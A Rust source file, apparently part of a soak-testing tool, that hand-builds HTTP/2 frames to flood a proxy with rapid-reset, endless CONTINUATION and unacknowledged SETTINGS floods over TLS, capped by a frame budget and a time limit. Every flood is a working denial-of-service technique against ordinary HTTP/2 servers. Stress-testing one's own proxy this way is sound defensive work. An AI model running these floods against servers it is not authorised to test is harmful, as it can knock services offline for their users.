//! HTTP/2 floods for the soak, written frame by frame (no HTTP/2 library
//! would send them): rapid reset (a request opened and cancelled at once,
//! over and over), CONTINUATION (a header block that never ends), SETTINGS
//! (frames the peer must acknowledge, never read). Each runs on one TLS
//! connection (ALPN h2) until the proxy closes it or the frame budget is
//! spent, then reports what it sent and how the connection ended.

use std::time::{Duration, Instant};

use anyhow::{Context as _, Result};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use crate::{Target, client};

/// The longest one flood may last.
const MAX_FLOOD: Duration = Duration::from_secs(60);

#[derive(clap::Args)]
pub struct Args {
    #[command(flatten)]
    target: Target,
    /// rapid-reset, continuation or settings.
    #[arg(long)]
    kind: String,
    /// Frames to send at most.
    #[arg(long, default_value_t = 200_000)]
    frames: u64,
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len()).expect("small frame");
    let mut f = Vec::with_capacity(9 + payload.len());
    f.extend_from_slice(&len.to_be_bytes()[1..]);
    f.push(kind);
    f.push(flags);
    f.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// An HPACK block for `GET https://<authority>/1k`: static-table indexes for
/// the method and scheme, literals without indexing for the rest.
fn request_block(authority: &str) -> Vec<u8> {
    let mut b = vec![0x82, 0x87];
    for (index, value) in [(1u8, authority), (4u8, "/1k")] {
        b.push(index);
        b.push(u8::try_from(value.len()).expect("short value"));
        b.extend_from_slice(value.as_bytes());
    }
    b
}

pub async fn run(args: Args) -> Result<()> {
    let tls = client::connector_with_alpn(&args.target, b"h2")?;
    let mut stream = client::connect(&args.target, &tls).await?;
    let negotiated = stream.get_ref().1.alpn_protocol().map(<[u8]>::to_vec);
    anyhow::ensure!(
        negotiated.as_deref() == Some(b"h2".as_slice()),
        "the proxy did not negotiate h2"
    );
    stream.write_all(PREFACE).await?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
    let block = request_block(&args.target.sni);
    let started = Instant::now();
    let mut sent = 0u64;
    let mut stream_id = 1u32;
    let (mut reader, mut writer) = tokio::io::split(stream);
    // Read (and discard) whatever the proxy sends, so that its writes never
    // block on us; the read ending is the proxy closing the connection.
    let reading = tokio::spawn(async move {
        let mut buf = vec![0u8; 64 * 1024];
        let mut got = 0u64;
        loop {
            match reader.read(&mut buf).await {
                Ok(0) | Err(_) => return got,
                Ok(n) => got += n as u64,
            }
        }
    });
    let mut ended = "frame budget spent".to_owned();
    if args.kind == "continuation" {
        let first = frame(HEADERS, END_STREAM, 1, &block);
        writer.write_all(&first).await?;
    }
    // A literal header (without indexing, new name) repeated in each
    // CONTINUATION: the header block only grows.
    let junk = {
        let mut j = vec![0x00, 5];
        j.extend_from_slice(b"x-pad");
        j.push(100);
        j.extend_from_slice(&[b'a'; 100]);
        j.repeat(10)
    };
    while sent < args.frames && started.elapsed() < MAX_FLOOD {
        let bytes = match args.kind.as_str() {
            "rapid-reset" => {
                let mut b = frame(HEADERS, END_HEADERS | END_STREAM, stream_id, &block);
                b.extend(frame(RST_STREAM, 0, stream_id, &8u32.to_be_bytes()));
                stream_id = stream_id.wrapping_add(2);
                b
            }
            "continuation" => frame(CONTINUATION, 0, 1, &junk),
            "settings" => frame(SETTINGS, 0, 0, &[0x00, 0x03, 0x00, 0x00, 0x00, 0x64]),
            other => anyhow::bail!("unknown flood kind {other:?}"),
        };
        if let Err(e) = writer.write_all(&bytes).await {
            ended = format!("closed by the proxy ({e})");
            break;
        }
        sent += 1;
        if reading.is_finished() {
            ended = "closed by the proxy".to_owned();
            break;
        }
    }
    let elapsed = started.elapsed();
    // Done sending: close our side, and see the proxy close its own.
    let _ = writer.shutdown().await;
    let received = match tokio::time::timeout(Duration::from_secs(10), reading).await {
        Ok(got) => Some(got.context("reader task")?),
        Err(_) => None,
    };
    println!(
        "{}",
        serde_json::json!({
            "kind": args.kind,
            "frames_sent": sent,
            "seconds": elapsed.as_secs_f64(),
            "bytes_received": received,
            "ended": ended,
        })
    );
    Ok(())
}
